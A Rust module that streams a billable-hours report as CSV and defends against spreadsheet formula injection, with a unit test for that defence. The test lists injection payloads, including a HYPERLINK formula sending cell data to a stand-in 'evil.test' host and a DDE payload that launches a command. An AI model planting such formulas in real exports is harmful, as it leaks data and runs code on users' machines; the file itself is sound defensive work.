//! The billable-hours report as CSV for spreadsheets and BI tools: the statement the
//! GraphQL report runs, its rows streamed out as PostgreSQL sends them (served at
//! `GET /reports/billable-hours.csv`, see `crate::http`).

use std::collections::HashMap;
use std::sync::Arc;

use bytes::Bytes;
use chrono::NaiveDate;
use diesel::prelude::*;
use diesel_async::{AsyncPgConnection, RunQueryDsl, SimpleAsyncConnection};
use futures_util::StreamExt;
use tokio::sync::mpsc;

use super::reports::{self, GroupBy, ReportRequest, ReportRow};
use crate::db::schema::{clients, projects, tasks, users};
use crate::error::{AppError, AppResult};
use crate::settings::TenantSettings;
use crate::tenancy::TenantDb;

/// Bytes gathered before a chunk is sent.
const CHUNK: usize = 32 * 1024;

/// The report a CSV request asks for, and whether to end with totals.
pub struct CsvRequest {
    pub report: ReportRequest,
    pub totals: bool,
}

/// Names for the ids a report shows, for the keys it groups by.
#[derive(Default)]
struct Names {
    clients: HashMap<i64, String>,
    projects: HashMap<i64, (Option<String>, String)>,
    tasks: HashMap<i64, String>,
    users: HashMap<i64, (String, String)>,
}

async fn names(conn: &mut AsyncPgConnection, keys: &[GroupBy]) -> AppResult<Names> {
    let mut names = Names::default();
    if keys.contains(&GroupBy::Client) {
        names.clients = clients::table
            .select((clients::id, clients::name))
            .load::<(i64, String)>(conn)
            .await?
            .into_iter()
            .collect();
    }
    if keys.contains(&GroupBy::Project) {
        names.projects = projects::table
            .select((projects::id, projects::code, projects::name))
            .load::<(i64, Option<String>, String)>(conn)
            .await?
            .into_iter()
            .map(|(id, code, name)| (id, (code, name)))
            .collect();
    }
    if keys.contains(&GroupBy::Task) {
        names.tasks = tasks::table
            .select((tasks::id, tasks::name))
            .load::<(i64, String)>(conn)
            .await?
            .into_iter()
            .collect();
    }
    if keys.contains(&GroupBy::User) {
        names.users = users::table
            .select((users::id, users::name, users::email))
            .load::<(i64, String, String)>(conn)
            .await?
            .into_iter()
            .map(|(id, name, email)| (id, (name, email)))
            .collect();
    }
    Ok(names)
}

/// A name as a spreadsheet cell that stays text. A cell beginning with `=`, `+`, `-`, `@`
/// (or their full-width forms, which some spreadsheets read alike), a tab or a carriage
/// return would be read as a formula by Excel, LibreOffice or Google Sheets: such a cell
/// gets a leading `'`, as the OWASP guidance on CSV injection says, and shows as written.
/// Quotes and separators inside a cell are the CSV writer's to escape.
fn text_cell(name: String) -> String {
    const STARTS_A_FORMULA: &[char] = &[
        '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ];
    if name.starts_with(STARTS_A_FORMULA) {
        format!("'{name}")
    } else {
        name
    }
}

fn header(keys: &[GroupBy]) -> Vec<&'static str> {
    let mut columns = Vec::new();
    for key in keys {
        match key {
            GroupBy::Client => columns.push("client"),
            GroupBy::Project => columns.extend(["project_code", "project"]),
            GroupBy::Task => columns.push("task"),
            GroupBy::User => columns.extend(["user", "user_email"]),
            GroupBy::Day => columns.push("day"),
            GroupBy::Week => columns.push("week"),
            GroupBy::Month => columns.push("month"),
        }
    }
    columns.extend([
        "billable_hours",
        "non_billable_hours",
        "billable_minutes",
        "non_billable_minutes",
        "amount",
        "currency",
        "entries",
    ]);
    columns
}

fn record(keys: &[GroupBy], names: &Names, row: &ReportRow, currency: &str) -> Vec<String> {
    let mut fields = Vec::new();
    let text =
        |d: Option<NaiveDate>, format: &str| d.map(|d| d.format(format).to_string()).unwrap_or_default();
    for key in keys {
        match key {
            GroupBy::Client => fields.push(text_cell(
                row.client_id
                    .and_then(|id| names.clients.get(&id).cloned())
                    .unwrap_or_default(),
            )),
            GroupBy::Project => {
                let (code, name) = row
                    .project_id
                    .and_then(|id| names.projects.get(&id).cloned())
                    .unwrap_or_default();
                fields.push(text_cell(code.unwrap_or_default()));
                fields.push(text_cell(name));
            }
            GroupBy::Task => fields.push(text_cell(
                row.task_id
                    .and_then(|id| names.tasks.get(&id).cloned())
                    .unwrap_or_default(),
            )),
            GroupBy::User => {
                let (name, email) = row
                    .user_id
                    .and_then(|id| names.users.get(&id).cloned())
                    .unwrap_or_default();
                fields.push(text_cell(name));
                fields.push(text_cell(email));
            }
            GroupBy::Day => fields.push(text(row.day, "%Y-%m-%d")),
            GroupBy::Week => fields.push(text(row.week, "%Y-%m-%d")),
            GroupBy::Month => fields.push(text(row.month, "%Y-%m")),
        }
    }
    if row.is_total
        && let Some(first) = fields.first_mut()
    {
        *first = "TOTAL".to_owned();
    }
    fields.extend([
        reports::hours(row.billable_minutes).to_string(),
        reports::hours(row.non_billable_minutes).to_string(),
        row.billable_minutes.to_string(),
        row.non_billable_minutes.to_string(),
        row.amount.normalize().to_string(),
        currency.to_owned(),
        row.entries.to_string(),
    ]);
    fields
}

/// A CSV writer's buffer taken as a chunk.
fn take_chunk(writer: &mut csv::Writer<Vec<u8>>) -> std::io::Result<Bytes> {
    let full = std::mem::replace(writer, csv::Writer::from_writer(Vec::with_capacity(CHUNK * 2)));
    let bytes = full
        .into_inner()
        .map_err(|e| std::io::Error::other(e.error().to_string()))?;
    Ok(Bytes::from(bytes))
}

/// Streams the report: the rows go out in chunks as PostgreSQL sends them, and the unit
/// ends (read-only, committed) when the last row is written. An error part-way ends the
/// body with an error, so the client sees a broken transfer, never a short file.
pub fn stream(
    db: Arc<TenantDb>,
    settings: Arc<TenantSettings>,
    request: CsvRequest,
) -> mpsc::Receiver<std::io::Result<Bytes>> {
    let (tx, rx) = mpsc::channel(4);
    tokio::spawn(async move {
        let outcome: AppResult<()> = async {
            let keys = request.report.group_by.clone();
            let mut writer = csv::Writer::from_writer(Vec::with_capacity(CHUNK * 2));
            writer.write_record(header(&keys)).map_err(AppError::internal)?;
            {
                let mut conn = db.conn().await?;
                conn.batch_execute(db.report_limit_sql()).await?;
                let names = names(&mut conn, &keys).await?;
                let mut rows = reports::report_query(&settings, &request.report)
                    .load_stream::<ReportRow>(&mut *conn)
                    .await?;
                let mut sum = reports::totals(&[]);
                while let Some(row) = rows.next().await {
                    let row = row?;
                    sum.billable_minutes += row.billable_minutes;
                    sum.non_billable_minutes += row.non_billable_minutes;
                    sum.amount += row.amount;
                    sum.entries += row.entries;
                    writer
                        .write_record(record(&keys, &names, &row, &settings.currency))
                        .map_err(AppError::internal)?;
                    if writer.get_ref().len() >= CHUNK {
                        let chunk = take_chunk(&mut writer).map_err(AppError::internal)?;
                        if tx.send(Ok(chunk)).await.is_err() {
                            return Ok(());
                        }
                    }
                }
                if request.totals && !keys.is_empty() {
                    writer
                        .write_record(record(&keys, &names, &sum, &settings.currency))
                        .map_err(AppError::internal)?;
                }
            }
            let chunk = take_chunk(&mut writer).map_err(AppError::internal)?;
            db.commit().await?;
            let _ = tx.send(Ok(chunk)).await;
            Ok(())
        }
        .await;
        if let Err(e) = outcome {
            tracing::error!(error = ?e, "billable-hours CSV failed part-way");
            let _ = tx
                .send(Err(std::io::Error::other("the report failed part-way")))
                .await;
        }
    });
    rx
}

#[cfg(test)]
mod tests {
    use super::text_cell;

    #[test]
    fn cells_that_would_be_formulas_stay_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "\t=1",
            "\r=1",
            "\u{FF1D}1+1",
        ] {
            assert_eq!(text_cell(formula.to_owned()), format!("'{formula}"));
        }
        for plain in ["Globex", "O'Brien & Sons", "", " =not at the start", "a=b"] {
            assert_eq!(text_cell(plain.to_owned()), plain);
        }
    }
}
